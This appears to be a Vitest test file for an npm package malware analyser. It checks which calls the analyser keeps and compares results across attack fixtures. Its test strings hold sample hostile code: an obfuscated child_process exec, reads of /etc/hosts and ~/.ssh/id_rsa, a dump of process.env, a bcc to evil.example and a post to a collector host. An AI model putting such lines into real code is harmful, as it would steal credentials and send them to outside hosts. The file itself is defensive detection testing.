import { readdirSync, readFileSync, statSync } from 'node:fs';
import { join, relative } from 'node:path';
import semver from 'semver';
import { describe, expect, it } from 'vitest';
import { analyseCode } from '../../src/analyse/code-analysis.js';
import { CODE_CHECKS } from '../../src/checks/code-checks.js';
import { jsFileFacts } from '../../src/facts/js-facts.js';
import { codeFacts } from '../../src/facts/package-facts.js';
import type { PackageContents, PackageFile } from '../../src/model.js';

const calleesOf = (code: string) => jsFileFacts('index.js', code).calls.map((call) => call.callee);

describe('which calls the facts keep', () => {
  it('drops calls no check can read: unresolved names with neutral names and no data from a source', () => {
    const callees = calleesOf(`
      function e(t) { return t + 1 }
      const list = []; list.push(e(2)); new Error('bad ' + list.join(','));
      items.map((x) => x * 2).filter(Boolean);
    `);
    expect(callees).toEqual([]);
  });

  it('keeps every call that resolves to a module or global, however it is reached', () => {
    const callees = calleesOf(`
      const cp = require('child' + '_process'); const { readFileSync: r } = require('fs');
      cp['ex' + 'ec']('id'); r('/etc/hosts'); globalThis['ev' + 'al'](code); JSON.parse(text);
    `);
    expect(callees).toEqual(
      expect.arrayContaining(['require', 'child_process.exec', 'fs.readFileSync', 'eval', 'JSON.parse']),
    );
  });

  it('keeps a call through a computed name even when it resolves to nothing known', () => {
    expect(calleesOf(`obj[k + 'x'](payload);`)).toEqual(['<expr>.<computed>']);
  });

  it('keeps calls read by their name: tool registrations, mail senders, request helpers', () => {
    const callees = calleesOf(`
      server.tool('add', 'Adds two numbers', {}, handler);
      transporter.sendMail({ to: user, bcc: 'x@evil.example' });
      client.post('https://collector.example/x', body);
      smtp.deliver(msg);
    `);
    expect(callees).toEqual(['<expr>.tool', '<expr>.sendMail', '<expr>.post', '<expr>.deliver']);
  });

  it('keeps a bare name the network, process and file predicates accept even unresolved (ws, needle)', () => {
    // lodash and prettier have local functions named so: what capabilities saw before, they still see.
    expect(calleesOf(`function ws(a) { return a } ws(1); needle(2); list.sort();`)).toEqual(['ws', 'needle']);
  });

  it('keeps a call of a neutral name when data from a source flows into it', () => {
    const calls = jsFileFacts(
      'index.js',
      `
      const fs = require('fs'); const os = require('os');
      function pack(x) { return x } function q(x) { return x }
      pack(JSON.stringify(process.env));
      q({ key: fs.readFileSync(os.homedir() + '/.ssh/id_rsa', 'utf8') });
      q(os.hostname());
      q('nothing here');
    `,
    ).calls.filter((call) => call.callee === 'pack' || call.callee === 'q');
    expect(calls.map((call) => [call.callee, call.args[0]?.origins.slice().sort()])).toEqual([
      ['pack', ['env-all']],
      ['q', ['file', 'host-info', 'sensitive-file']],
      ['q', ['host-info']],
    ]);
  });
});

/** Every release under fixtures/ (a folder named by its version, holding package.json), by package. */
function fixtureReleases(root: string): Map<string, Array<{ version: string; dir: string }>> {
  const byPackage = new Map<string, Array<{ version: string; dir: string }>>();
  for (const entry of readdirSync(root, { recursive: true, encoding: 'utf8' })) {
    const dir = join(root, entry);
    const version = entry.split('/').pop() ?? '';
    if (!semver.valid(version) || !statSync(dir).isDirectory()) continue;
    try {
      statSync(join(dir, 'package.json'));
    } catch {
      continue;
    }
    const name = relative(root, join(dir, '..'));
    byPackage.set(name, [...(byPackage.get(name) ?? []), { version, dir }]);
  }
  for (const releases of byPackage.values()) releases.sort((a, b) => semver.compare(a.version, b.version));
  return byPackage;
}

function contentsIn(dir: string): PackageContents {
  const files = new Map<string, PackageFile>();
  let unpackedSize = 0;
  for (const entry of readdirSync(dir, { recursive: true, encoding: 'utf8' })) {
    const path = join(dir, entry);
    if (!statSync(path).isFile()) continue;
    const bytes = new Uint8Array(readFileSync(path));
    unpackedSize += bytes.byteLength;
    files.set(entry, { path: entry, bytes, size: bytes.byteLength, mode: 0o644 });
  }
  return { files, skipped: [], unpackedSize };
}

describe('the calls dropped change no conclusion', () => {
  const releases = fixtureReleases(join(import.meta.dirname, '../../fixtures'));

  it('finds the fixture releases (attacks, evasions and look-alikes), and drops calls from them', () => {
    expect(releases.size).toBeGreaterThan(50);
    const calls = (everyCall: boolean) =>
      [...releases.values()]
        .flat()
        .flatMap(({ dir }) => codeFacts(contentsIn(dir), undefined, { everyCall }).js)
        .reduce((total, file) => total + file.calls.length, 0);
    // Otherwise the comparisons below would compare a thing with itself.
    expect(calls(false)).toBeLessThan(calls(true));
  });

  // Each release alone and against the release before it (the version diff): findings, capabilities, tools and
  // failures are the same whether the facts hold every call or only those kept.
  for (const [name, versions] of releases) {
    it(`${name}: the same analysis with every call kept`, () => {
      versions.forEach(({ version, dir }, index) => {
        const before = versions[index - 1];
        const previous = before ? { version: before.version, contents: contentsIn(before.dir) } : undefined;
        const kept = analyseCode(name, version, contentsIn(dir), CODE_CHECKS, previous);
        const every = analyseCode(name, version, contentsIn(dir), CODE_CHECKS, previous, { everyCall: true });
        expect(kept).toEqual(every);
      });
    });
  }
});
